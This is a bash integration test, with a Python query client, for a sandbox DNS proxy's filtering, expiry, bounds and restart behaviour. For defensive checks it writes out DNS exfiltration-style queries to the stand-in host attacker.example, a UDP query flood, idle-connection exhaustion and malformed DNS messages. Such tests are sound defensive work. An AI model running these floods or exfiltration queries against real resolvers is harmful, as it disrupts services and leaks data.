#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
# The DNS proxy as a service (README, "The DNS proxy"): one proxy for every
# namespace, devices attached while it runs, one proxy per pin directory, the
# lifetime of opened addresses across a kill and a restart, slot reuse, the
# bounds (per answer, per device, floods, idle TCP, malformed queries) and a
# kill under load. dnsmasq upstream logs every query that left the proxy.
#
# Jail 1 holds dnsmasq, the proxy and the services, with sandboxes A (vrj) and
# B (vrj2) in one namespace; jail 2 (its host side again vrj) holds sandbox C,
# made and attached after the proxy started, with no route to the upstream.
set -u
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/integration/dns_lib.sh
. "$(dirname "$0")/dns_lib.sh"
# shellcheck disable=SC2119 # vr_init takes tool names, not our arguments
vr_init dig dnsmasq

DNS=192.0.2.53 # the server the sandboxes name: any address is steered to the proxy
# shellcheck disable=SC2016 # the backquotes are the warning's own
NO_PROXY='no `vrnet-bpf dns` serves' # what attach and apply warn with no proxy running

vr_jail_sandbox
jail=$VR_JAIL sbx=$VR_SBX
sbxb=vrsbxb$VR_ID
vr_jail_add_sandbox "$jail" "$sbxb" vrj2 vrk2 3
for a in 203.0.113.10 203.0.113.40 203.0.113.41 203.0.113.42 203.0.113.93 203.0.113.94 \
	203.0.113.128 203.0.113.159 203.0.113.160 198.51.100.66; do
	ip -n "$jail" addr add $a/32 dev vrj || vr_fatal "address $a in the jail"
done
vj() { vr -n "$jail" "$@"; }

# The upstream: host records have TTL 0 (dnsmasq's --local-ttl) unless they
# name one; wide32/wide33 have 32 and 33 addresses, n0..n1029.bulk one each;
# churn's address changes in the run (the hosts file is read again on SIGHUP).
{
	echo "203.0.113.93 churn.example.test"
	for i in $(seq 128 159); do echo "203.0.113.$i wide32.example.test"; done
	for i in $(seq 160 192); do echo "203.0.113.$i wide33.example.test"; done
	for i in $(seq 0 1029); do printf '2001:db8:b::%x n%d.bulk.example.test\n' $((i + 1)) "$i"; done
} >"$VR_TMP/hosts"
# (--user=root: dnsmasq reads --addn-hosts after dropping to its own user,
# and our temporary directory is root's alone)
vr_dns_upstream "$jail" 10.233.1.1 --user=root --addn-hosts="$VR_TMP/hosts" \
	--host-record=api.example.test,203.0.113.10 \
	--host-record=short.example.test,203.0.113.40 \
	--host-record=short2.example.test,203.0.113.42 \
	--host-record=long.example.test,203.0.113.41,600 \
	--address=/attacker.example/198.51.100.66
vr_dns_services "$jail"

policy=$(vr_policy svc '{"default": "deny", "dns_proxy": true, "allow": [
	"api.example.test:443/tcp", "short.example.test:443/tcp", "short2.example.test:443/tcp",
	"long.example.test:443/tcp", "wide32.example.test:443/tcp", "wide33.example.test:443/tcp",
	"*.bulk.example.test:443/tcp", "churn.example.test:443/tcp"]}')

# A client of our own: queries built by hand, so that it can also send what
# dig never would. Modes:
#   bulk SERVER FILE SECONDS   ask each "NAME TYPE" of FILE in turn, 1.2 ms apart (2 s each,
#                              SECONDS in all), print "NAME RCODE|none|late"
#   first SERVER NAME TYPE SECONDS
#                              ask every 0.2 s until an answer comes; print
#                              the seconds it took, or "none"
#   flood SERVER SECONDS STOP OUT
#                              allowed queries as fast as it can, every tenth
#                              garbage, until STOP exists (bounded: SECONDS,
#                              600,000); OUT.started after the first 1,000,
#                              then "sent answered" in OUT
#   hold SERVER N SECONDS STOP OUT
#                              N TCP connections to port 53 that send nothing;
#                              OUT.started once all are up, then in OUT how
#                              many the server closed before STOP or SECONDS
#   bad SERVER KIND            one malformed message (or "valid"): prints "answered",
#                              "closed" (TCP) or "silent" within 1.5 s
#   loop SERVER SECONDS STOP OUT
#                              an allowed name and a fresh exfiltration name
#                              in turn; OUT: a tally of what came back
cat >"$VR_TMP/dnsq.py" <<'PY'
import json, os, random, select, socket, struct, sys, time

RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
TYPES = {"A": 1, "AAAA": 28, "TXT": 16}
rng = random.Random(4242)

def wire(name, qtype="A", flags=0x0100, qd=1):
    qid = rng.getrandbits(16)
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split("."))
    q += b"\0" + struct.pack(">HH", TYPES[qtype], 1)
    return struct.pack(">HHHHHH", qid, flags, qd, 0, 0, 0) + q * qd, qid

def ask(s, server, name, qtype, timeout):
    msg, qid = wire(name, qtype)
    s.sendto(msg, (server, 53))
    end = time.monotonic() + timeout
    while True:
        left = end - time.monotonic()
        if left <= 0 or not select.select([s], [], [], left)[0]:
            return "none", 0
        d = s.recv(4096)
        if len(d) >= 12 and struct.unpack(">H", d[:2])[0] == qid:
            return RCODES.get(d[3] & 15, str(d[3] & 15)), struct.unpack(">H", d[6:8])[0]

def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

mode, server = sys.argv[1], sys.argv[2]
if mode == "bulk":
    s = udp()
    end = time.monotonic() + float(sys.argv[4])
    for line in open(sys.argv[3]):
        name, qtype = line.split()
        time.sleep(0.0012)  # under the datapath's rate of queries (1,000/s a device)
        late = time.monotonic() > end
        print(name, "late" if late else ask(s, server, name, qtype, 2.0)[0], flush=True)
elif mode == "first":
    name, qtype, seconds = sys.argv[3], sys.argv[4], float(sys.argv[5])
    s = udp()
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        if ask(s, server, name, qtype, 0.2)[0] != "none":
            print("%.2f" % (time.monotonic() - start)); break
    else:
        print("none")
elif mode == "flood":
    seconds, stop, out = float(sys.argv[3]), sys.argv[4], sys.argv[5]
    s = udp(); s.setblocking(False)
    good = [wire("api.example.test")[0], wire("long.example.test")[0]]
    sent = answered = 0
    end = time.monotonic() + seconds
    while sent < 600000 and time.monotonic() < end and not (sent % 1000 == 0 and os.path.exists(stop)):
        msg = rng.randbytes(rng.randrange(1, 600)) if sent % 10 == 9 else good[sent & 1]
        try:
            s.sendto(msg, (server, 53)); sent += 1
        except BlockingIOError:
            pass
        try:
            while s.recv(4096): answered += 1
        except BlockingIOError:
            pass
        if sent == 1000: open(out + ".started", "w").close()
    open(out, "w").write("%d %d\n" % (sent, answered))
elif mode == "hold":
    n, seconds, stop, out = int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], sys.argv[6]
    conns = [socket.create_connection((server, 53), timeout=2) for _ in range(n)]
    open(out + ".started", "w").close()
    closed = set()
    end = time.monotonic() + seconds
    while time.monotonic() < end and not os.path.exists(stop) and len(closed) < n:
        for c in select.select([c for c in conns if c not in closed], [], [], 0.1)[0]:
            if not c.recv(512): closed.add(c)  # a close, never an answer: nothing was asked
    open(out, "w").write("%d\n" % len(closed))
elif mode == "bad":
    kind = sys.argv[3]
    if kind == "tcp_huge":  # a length of 65535, then 5,000 bytes of it
        c = socket.create_connection((server, 53), timeout=2)
        try:
            c.sendall(b"\xff\xff" + rng.randbytes(5000))
        except OSError:
            pass
        r, _, _ = select.select([c], [], [], 1.5)
        try:
            got = c.recv(512) if r else None
        except OSError:
            got = b""
        print("silent" if got is None else "closed" if not got else "answered")
        sys.exit(0)
    msg = {"valid": lambda: wire("api.example.test")[0],
           "random": lambda: rng.randbytes(300),
           "short": lambda: b"\x12\x34",
           "response": lambda: wire("api.example.test", flags=0x8180)[0],
           "two_questions": lambda: wire("api.example.test", qd=2)[0]}[kind]()
    s = udp(); s.sendto(msg, (server, 53))
    print("answered" if select.select([s], [], [], 1.5)[0] else "silent")
elif mode == "loop":
    seconds, stop, out = float(sys.argv[3]), sys.argv[4], sys.argv[5]
    s = udp()
    tally = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end and not os.path.exists(stop):
        for kind, name in (("allowed", "api.example.test"),
                           ("exfil", "%08x.attacker.example" % rng.getrandbits(32))):
            rcode, an = ask(s, server, name, "A", 0.3)
            key = "%s %s%s" % (kind, rcode, " with answers" if an else "")
            tally[key] = tally.get(key, 0) + 1
    json.dump(tally, open(out, "w"))
PY
dnsq() { # SANDBOX MODE ARGS...
	local ns=$1
	shift
	ip netns exec "$ns" "$VR_PY" "$VR_TMP/dnsq.py" "$1" "$DNS" "${@:2}"
}

# The proxy in jail 1, asking dnsmasq from there; its log in proxy.log.
VR_PROXY_PID=''
start_proxy() { # OPTIONS...: returns once sandbox A's lookups are answered (and logged)
	"$VRNET_BIN" --pin-dir "$VR_PIN" -n "$jail" --resolver 10.233.1.1:5353 dns --log-answers "$@" \
		>>"$VR_TMP/proxy.log" 2>&1 &
	VR_PROXY_PID=$!
	vr_pids+=("$VR_PROXY_PID")
	# shellcheck disable=SC2317 # called by vr_wait_for
	answers() { [ "$(lookup $DNS api.example.test A)" = 203.0.113.10 ]; }
	vr_wait_for 5 answers || vr_fatal "the proxy does not answer: $(tail -3 "$VR_TMP/proxy.log")"
}
kill_proxy() { # SIGKILL: nothing of the proxy's own cleanup runs
	{
		kill -9 "$VR_PROXY_PID"
		vr_wait_for 2 vr_gone "$VR_PROXY_PID"
		vr_stop_pid "$VR_PROXY_PID"
	} 2>/dev/null # not the shell's "Killed" notice
}
proxy_said() { grep -c "^$1 $2\. " "$VR_TMP/proxy.log"; } # ACTION NAME: how many log lines
slot_of_last() { # NAME: the slot of the last log line about NAME
	sed -n "s/^[a-z_]* $1\. [A-Z]* (slot \([0-9]*\),.*/\1/p" "$VR_TMP/proxy.log" | tail -1
}

# The opened addresses, one line each: "SLOT ADDRESS" (IPv6 as its bytes).
dnsaddrs() {
	bpftool -j map dump pinned "$VR_PIN/vrnet_dnsaddrs" |
		jq -r '.[] | (.formatted.key // .key) |
			"\(.slot) \(if .family == 4 then (.addr[0:4] | map(tostring) | join("."))
				    else (.addr | map(tostring) | join(",")) end)"'
}
entries() { dnsaddrs | awk -v s="$1" -v a="${2:-}" '$1 == s && (a == "" || $2 == a)' | wc -l; } # SLOT [ADDR]

# ---- unfiltered, the probes get through: the attacks below can leak ----
before=$(upstream_saw probe.attacker.example)
got=$(ip netns exec "$sbx" dig +time=2 +tries=1 +short -p 5353 @10.233.1.1 probe.attacker.example A)
expect_eq "unfiltered, the exfiltration name resolves at the upstream" "$got" 198.51.100.66
expect_eq "unfiltered, the upstream logs it" "$(($(upstream_saw probe.attacker.example) - before))" 1
expect_connect "unfiltered, the exfiltration domain's address" reach 198.51.100.66 443
got=$(ip netns exec "$sbx" dig +time=2 +tries=1 +short -p 5353 @10.233.1.1 wide33.example.test A | wc -l)
expect_eq "the upstream gives wide33 its 33 addresses" "$got" 33

# ---- one proxy per pin directory; attach warns while none runs ----
expect "attach A while no proxy runs" vj attach vrj --policy "$policy"
if grep -qF "$NO_PROXY" "$VR_TMP/err"; then
	ok "attach warns that no proxy serves the pin directory"
else
	not_ok "attach with no proxy, no warning: $(head -c 300 "$VR_TMP/err")"
fi
expect_connect "attached, the exfiltration domain's address" blocked 198.51.100.66 443
expect "attach B" vj attach vrj2 --policy "$policy"
got=$(lookup $DNS api.example.test A)
expect_eq "before any proxy ran, A's lookup" "${got:-no answer}" "no answer"

start_proxy --refuse refused --min-ttl 2 --grace 1
proxy1=$VR_PROXY_PID
expect_rc "a second proxy on the same pin directory exits 4" 4 \
	timeout 5 "$VRNET_BIN" --pin-dir "$VR_PIN" -n "$jail" --resolver 10.233.1.1:5353 dns
if grep -q "another vrnet-bpf dns serves $VR_PIN" "$VR_TMP/err"; then
	ok "the second proxy says why"
else
	not_ok "the second proxy's message: $(head -c 300 "$VR_TMP/err")"
fi
expect_lookup "the first proxy still answers" 203.0.113.10 $DNS api.example.test A

# ---- --refuse refused ----
before=$(upstream_saw x.attacker.example)
expect_lookup "--refuse refused: a name no rule allows" REFUSED $DNS x.attacker.example A
expect_eq "the refused name never reached the upstream" "$(upstream_saw x.attacker.example)" "$before"

# ---- a device in another namespace, attached while the proxy runs ----
vr_jail_sandbox_n 2
jail2=$VR_JAIL sbxc=$VR_SBX
ip -n "$jail2" addr add 203.0.113.10/32 dev vrj || vr_fatal "203.0.113.10 in jail 2"
vr_dns_services "$jail2"
VR_JAIL=$jail VR_SBX=$sbx # A stays the sandbox the helpers use unless $in says
expect_eq "jail 2 has no way to the upstream: no answer" \
	"$(ip netns exec "$sbxc" dig +time=1 +tries=1 -p 5353 @10.233.1.1 api.example.test A | grep -c status:)" 0
expect "attach C in jail 2 while the proxy runs" vr -n "$jail2" attach vrj --policy "$policy"
if grep -q 'vrnet-bpf dns' "$VR_TMP/err"; then
	not_ok "attach warned while a proxy runs: $(head -c 300 "$VR_TMP/err")"
else
	ok "attach does not warn while a proxy runs"
fi
took=$(dnsq "$sbxc" first api.example.test A 4)
if [ "$took" = none ]; then
	not_ok "C's lookups go unanswered: the proxy did not pick up jail 2"
elif awk -v t="$took" 'BEGIN { exit !(t <= 2.2) }'; then
	ok "C's lookups are answered ${took}s after its attach, by the same proxy"
else
	not_ok "C's first answer took ${took}s (the proxy rescans every second)"
fi
in=$sbxc expect_connect "C reaches what its lookup opened" reach 203.0.113.10 443
if kill -0 "$proxy1" 2>/dev/null; then ok "the same proxy process served C"; else not_ok "the proxy died"; fi

# ---- expiry (--min-ttl 2 --grace 1), kill -9, down, restart ----
expect_lookup "a TTL-0 name" 203.0.113.40 $DNS short.example.test A
t0=$(vr_now)
expect_connect "right after the lookup" reach 203.0.113.40 443
# 2 s of --min-ttl, not the TTL of 0, and 1 s of grace: still open after 1.5 s
sleep "$(awk -v e="$(vr_elapsed "$t0")" 'BEGIN { d = 1.5 - e; print (d > 0 ? d : 0) }')"
if connects 203.0.113.40 443; then
	ok "1.5 s after the lookup, --min-ttl keeps the TTL-0 name open"
else
	not_ok "1.5 s after the lookup, the TTL-0 name's address is closed (--min-ttl 2 --grace 1)"
fi
# shellcheck disable=SC2317 # called by vr_wait_for
closed40() { ! connects 203.0.113.40 443; }
if vr_wait_for 6 closed40; then
	took=$(vr_elapsed "$t0")
	if awk -v t="$took" 'BEGIN { exit !(t >= 1.5) }'; then
		ok "the TTL-0 name's address is blocked again ${took}s later (min-ttl 2 + grace 1)"
	else
		not_ok "the TTL-0 name's address closed after only ${took}s"
	fi
else
	not_ok "the TTL-0 name's address is still open 6 s after its lookup"
fi
# ---- churn: the zone gives a name another address ----
expect_lookup "churn: the name's address" 203.0.113.93 $DNS churn.example.test A
t0=$(vr_now)
sed -i 's/^203.0.113.93 churn/203.0.113.94 churn/' "$VR_TMP/hosts"
kill -HUP "$(cat "$VR_TMP/dnsmasq.pid")"
# shellcheck disable=SC2317 # called by vr_wait_for
churned() { [ "$(lookup $DNS churn.example.test A)" = 203.0.113.94 ]; }
if vr_wait_for 2 churned; then
	ok "churn: a new lookup gets the zone's new address"
else
	not_ok "churn: the lookup still answers $(lookup $DNS churn.example.test A)"
fi
expect_connect "churn: the new address is open" reach 203.0.113.94 443
if [ "$(awk -v e="$(vr_elapsed "$t0")" 'BEGIN { print (e < 1.5) }')" = 1 ] && connects 203.0.113.93 443; then
	ok "churn: the old address stays open until it expires"
else
	not_ok "churn: the old address closed early (or the checks were late: $(vr_elapsed "$t0") s)"
fi
# shellcheck disable=SC2317 # called by vr_wait_for
closed93() { ! connects 203.0.113.93 443; }
if vr_wait_for 6 closed93; then
	ok "churn: the old address closes on schedule ($(vr_elapsed "$t0") s after its lookup)"
else
	not_ok "churn: the old address is still open 6 s after its lookup"
fi

expect_lookup "a TTL-600 name" 203.0.113.41 $DNS long.example.test A
expect_lookup "another TTL-0 name" 203.0.113.42 $DNS short2.example.test A
slot_a=$(slot_of_last short2.example.test)
expect_connect "the TTL-0 name before the kill" reach 203.0.113.42 443
kill_proxy
expect_connect "proxy killed: the TTL-600 name's address stays open" reach 203.0.113.41 443
got=$(ip netns exec "$sbx" dig +time=2 +tries=1 @$DNS api.example.test A 2>&1)
if grep -q "status:" <<<"$got"; then
	not_ok "with no proxy, a lookup got an answer: $(grep status: <<<"$got")"
elif grep -qi "timed out\|no servers could be reached" <<<"$got"; then
	ok "with no proxy, a lookup gets no answer at all (fail closed)"
else
	not_ok "with no proxy, dig said: $(head -c 200 <<<"$got")"
fi
expect "apply while no proxy runs" vj apply vrj2 --policy "$policy"
if grep -qF "$NO_PROXY" "$VR_TMP/err"; then
	ok "apply warns that no proxy serves the pin directory"
else
	not_ok "apply with no proxy, no warning: $(head -c 300 "$VR_TMP/err")"
fi
# shellcheck disable=SC2317 # called by vr_wait_for
closed42() { ! connects 203.0.113.42 443; }
if vr_wait_for 6 closed42; then
	ok "the TTL-0 name opened before the kill expires while no proxy runs"
else
	not_ok "the TTL-0 name's address is still open 6 s after its lookup, no proxy"
fi
expect_eq "its expired entry is still in vrnet_dnsaddrs (nobody swept)" \
	"$(entries "$slot_a" 203.0.113.42)" 1
start_proxy # default lifetimes and refusal from here on
expect_eq "the restarted proxy swept the expired entry" "$(entries "$slot_a" 203.0.113.42)" 0
expect_eq "and kept the TTL-600 one" "$(entries "$slot_a" 203.0.113.41)" 1
expect_connect "after the restart, the expired name's address" blocked 203.0.113.42 443
expect_connect "after the restart, the TTL-600 name's address" reach 203.0.113.41 443
expect_lookup "the restarted proxy answers" 203.0.113.41 $DNS long.example.test A
expect_lookup "without --refuse: NXDOMAIN" NXDOMAIN $DNS x.attacker.example A

# ---- a detached device's opened addresses do not pass to its slot's next device ----
# Policy ids only grow, so the next device's id would differ and the datapath
# alone would refuse the old entries; the test puts the counter back to the
# old id (as after it wraps) so that only the deletion at detach stands
# between the next device and the old addresses.
vc() { vr -n "$jail2" "$@"; }
in=$sbxc expect_lookup "C looks a name up" 203.0.113.10 $DNS api.example.test A
slot_c=$(slot_of_last api.example.test)
pid_c=$(vc -j show vrj | jq -r .policy_id)
in=$sbxc expect_connect "C, opened" reach 203.0.113.10 443
[ "$(entries "$slot_c" 203.0.113.10)" = 1 ] || not_ok "C's entry (slot $slot_c) is not in the map"
expect "detach C" vc detach vrj
expect_eq "the detach deleted C's entries" "$(entries "$slot_c")" 0
cfg=$(bpftool -j map lookup pinned "$VR_PIN/vrnet_config" key 0 0 0 0 | jq -r '.value | join(" ")')
read -r -a bytes <<<"$cfg"
bpftool map update pinned "$VR_PIN/vrnet_config" key 0 0 0 0 value \
	$((pid_c & 255)) $((pid_c >> 8 & 255)) $((pid_c >> 16 & 255)) $((pid_c >> 24)) "${bytes[@]:4}" ||
	vr_fatal "rewinding the policy id counter"
# again, with api.example.test on another port: the proxy must not decide by
# what it read of the slot's last device (same slot, same policy id)
expect "attach C again, another port for the name" vc attach vrj --policy \
	"$(vr_policy c2 '{"default": "deny", "allow": ["api.example.test:8080/tcp"]}')"
expect_eq "the new attach got the old policy id" "$(vc -j show vrj | jq -r .policy_id)" "$pid_c"
in=$sbxc expect_connect "the slot's new device, before any lookup" blocked 203.0.113.10 443
# (the detach took jail 2's last device, and vrdns0 with it: the proxy picks
# the namespace up again within its second)
took=$(dnsq "$sbxc" first api.example.test A 3)
if [ "$took" = none ]; then
	not_ok "the slot's new device: its own lookups go unanswered"
else
	ok "the slot's new device: its own lookup answered (after ${took}s)"
fi
expect_eq "in the same slot" "$(slot_of_last api.example.test)" "$slot_c"
in=$sbxc expect_connect "opens it on the new device's port" reach 203.0.113.10 8080
in=$sbxc expect_connect "not on the last device's" blocked 203.0.113.10 443

# ---- 32 addresses per answer ----
wide32=$(seq -s ' ' -f '203.0.113.%g' 128 159 | tr ' ' '\n' | sort | tr '\n' ' ' | sed 's/ $//')
expect_lookup "32 addresses in one answer" "$wide32" $DNS wide32.example.test A
expect_eq "all 32 open" "$(dnsaddrs | awk -v s="$slot_a" '$1 == s && $2 ~ /^203\.0\.113\./ {
	split($2, o, "."); if (o[4] >= 128 && o[4] <= 159) n++ } END { print n + 0 }')" 32
expect_connect "the first of them" reach 203.0.113.128 443
expect_connect "the last of them" reach 203.0.113.159 443
expect_lookup "33 addresses in one answer" SERVFAIL $DNS wide33.example.test A
expect_eq "none of the 33 open" "$(dnsaddrs | awk -v s="$slot_a" '$1 == s && $2 ~ /^203\.0\.113\./ {
	split($2, o, "."); if (o[4] >= 160 && o[4] <= 192) n++ } END { print n + 0 }')" 0
expect_connect "the first of the 33" blocked 203.0.113.160 443
expect_eq "the proxy logged too_many" "$(proxy_said too_many wide33.example.test)" 1

# ---- floods, idle connections and malformed messages from A ----
rm -f "$VR_TMP/stop"
dnsq "$sbx" flood 15 "$VR_TMP/stop" "$VR_TMP/flood" &
flood_pid=$!
vr_pids+=("$flood_pid")
vr_wait_for 5 test -e "$VR_TMP/flood.started" || vr_fatal "the flood did not start"
udp_drops() { # the jail's UDP datagrams dropped for a full receive queue
	# shellcheck disable=SC2016 # awk's fields
	ip netns exec "$jail" awk '/^Udp:/ { if (!h) { for (i = 1; i <= NF; i++) f[$i] = i; h = 1 }
		else print $f["RcvbufErrors"] }' /proc/net/snmp
}
drops=$(udp_drops)
# B and C each ask 40 times in turn, each answer awaited 2 s, both at once
for i in $(seq 40); do echo "api.example.test A"; done >"$VR_TMP/forty"
dnsq "$sbxb" bulk "$VR_TMP/forty" 30 >"$VR_TMP/flood.B" &
b_pid=$!
vr_pids+=("$b_pid")
dnsq "$sbxc" bulk "$VR_TMP/forty" 30 >"$VR_TMP/flood.C"
wait "$b_pid"
drops=$(($(udp_drops) - drops))
flood_ran=$(test -e "$VR_TMP/flood" && echo no || echo yes)
touch "$VR_TMP/stop"
wait "$flood_pid"
read -r sent flood_answered <"$VR_TMP/flood"
expect_eq "A flooded throughout B's and C's lookups ($sent sent, $flood_answered answered)" \
	"$flood_ran" yes
answered() { # B|C: how many of its 40 were answered, and which were not
	local n
	n=$(grep -c ' NOERROR$' "$VR_TMP/flood.$1")
	echo "$n/40$([ "$n" -ne 40 ] && grep -vn ' NOERROR$' "$VR_TMP/flood.$1" | cut -d: -f1 |
		sed 's/^/#/' | tr '\n' ' ' | sed 's/^/, unanswered within 2 s: /; s/ $//')"
}
expect_eq "while A floods, C (another namespace) is answered" "$(answered C)" 40/40
# B shares the proxy's one UDP socket of the namespace with A: the datapath
# holds A to its rate of queries, so the socket's queue never fills with A's
got=$(answered B)
if [ "$got" = 40/40 ]; then
	ok "while A floods, B (A's namespace) is answered: $got"
else
	not_ok "the flood starves its namespace: B (A's namespace) answered $got;" \
		"$drops UDP datagrams dropped for a full receive queue in the jail"
fi
expect_eq "no query dropped at the proxy's full socket queue" "$drops" 0
timeout 2 "$VRNET_BIN" --pin-dir "$VR_PIN" -n "$jail" -j log vrj >"$VR_TMP/flood.log" 2>&1
if grep -q '"reason":"dns_rate"' "$VR_TMP/flood.log"; then
	ok "A's queries over its rate: dropped in the datapath, reason dns_rate"
else
	not_ok "no dns_rate drop in A's log: $(head -c 300 "$VR_TMP/flood.log")"
fi

rm -f "$VR_TMP/stop"
dnsq "$sbx" hold 20 8 "$VR_TMP/stop" "$VR_TMP/hold" &
hold_pid=$!
vr_pids+=("$hold_pid")
vr_wait_for 5 test -e "$VR_TMP/hold.started" || vr_fatal "the idle connections did not start"
expect_lookup "A holds 20 idle TCP connections: B over TCP" 203.0.113.10 $DNS api.example.test A +tcp
in=$sbxc expect_lookup "and C over TCP" 203.0.113.10 $DNS api.example.test A +tcp
expect_lookup "and A itself over TCP" 203.0.113.10 $DNS api.example.test A +tcp
touch "$VR_TMP/stop"
wait "$hold_pid"
closed=$(cat "$VR_TMP/hold")
if [ "$closed" -ge 16 ]; then
	ok "the proxy closed $closed of A's 20 idle connections (4 per device)"
else
	not_ok "the proxy closed $closed of A's 20 idle connections, want 16 or more"
fi

expect_eq "the malformed-message client hears an answer to a valid query" "$(dnsq "$sbx" bad valid)" answered
for kind in random short response two_questions tcp_huge; do
	got=$(dnsq "$sbx" bad "$kind")
	case $got in
	silent | closed) ok "malformed ($kind): nothing answered ($got)" ;;
	*) not_ok "malformed ($kind): $got" ;;
	esac
done
if kill -0 "$VR_PROXY_PID" 2>/dev/null; then ok "the proxy is still up"; else not_ok "the proxy died"; fi
expect_lookup "and answers right after" 203.0.113.10 $DNS api.example.test A

# ---- 1,024 addresses per device ----
in=$sbxb lookup $DNS api.example.test A >/dev/null
slot_b=$(slot_of_last api.example.test)
held=$(entries "$slot_b")
for i in $(seq 0 1029); do echo "n$i.bulk.example.test AAAA"; done >"$VR_TMP/bulk"
dnsq "$sbxb" bulk "$VR_TMP/bulk" 30 >"$VR_TMP/bulk.out"
want_ok=$((1024 - held))
expect_eq "B asks 1,030 names holding $held: answered, SERVFAIL" \
	"$(grep -c ' NOERROR$' "$VR_TMP/bulk.out"), $(grep -c ' SERVFAIL$' "$VR_TMP/bulk.out")" \
	"$want_ok, $((1030 - want_ok))"
expect_eq "the answered ones came first" \
	"$(head -n "$want_ok" "$VR_TMP/bulk.out" | grep -vc ' NOERROR$')" 0
expect_eq "B holds 1,024 entries" "$(entries "$slot_b")" 1024
expect_eq "the proxy logged full for the rest" "$(grep -c '^full n[0-9]*\.bulk\.example\.test\. ' \
	"$VR_TMP/proxy.log")" "$((1030 - want_ok))"
expect_lookup "A still resolves a name B could not have" 2001:db8:b::406 $DNS n1029.bulk.example.test AAAA
expect_eq "and it opens for A" "$(dnsaddrs | awk -v s="$slot_a" '$1 == s && $2 ~ /,4,6$/' | wc -l)" 1
in=$sbxb expect_lookup "while B stays at its bound" SERVFAIL $DNS n1029.bulk.example.test AAAA

# ---- kill -9 and restart twice, under lookups and exfiltration attempts ----
before=$(grep -c 'attacker\.example from' "$VR_TMP/dnsmasq.log")
rm -f "$VR_TMP/stop"
dnsq "$sbx" loop 20 "$VR_TMP/stop" "$VR_TMP/loop" &
loop_pid=$!
vr_pids+=("$loop_pid")
sleep 0.5
for _ in 1 2; do
	kill_proxy
	sleep 0.5
	start_proxy
	sleep 0.5
done
touch "$VR_TMP/stop"
wait "$loop_pid"
tally=$(jq -c . "$VR_TMP/loop")
expect_eq "exfiltration names under kills: never an answer with addresses" \
	"$(jq '[to_entries[] | select(.key | startswith("exfil ")) |
		select(.key != "exfil NXDOMAIN" and .key != "exfil none")] | length' "$VR_TMP/loop")" 0
expect_eq "exfiltration names were refused across the restarts ($tally)" \
	"$(jq '(.["exfil NXDOMAIN"] // 0) > 10 and (.["allowed NOERROR with answers"] // 0) > 10' "$VR_TMP/loop")" true
expect_eq "the upstream never saw an exfiltration name" \
	"$(grep -c 'attacker\.example from' "$VR_TMP/dnsmasq.log")" "$before"
expect_connect "the exfiltration domain's address" blocked 198.51.100.66 443
expect_lookup "after two restarts, lookups work" 203.0.113.10 $DNS api.example.test A

expect "detach A" vj detach vrj
expect "detach B" vj detach vrj2
expect "detach C" vc detach vrj
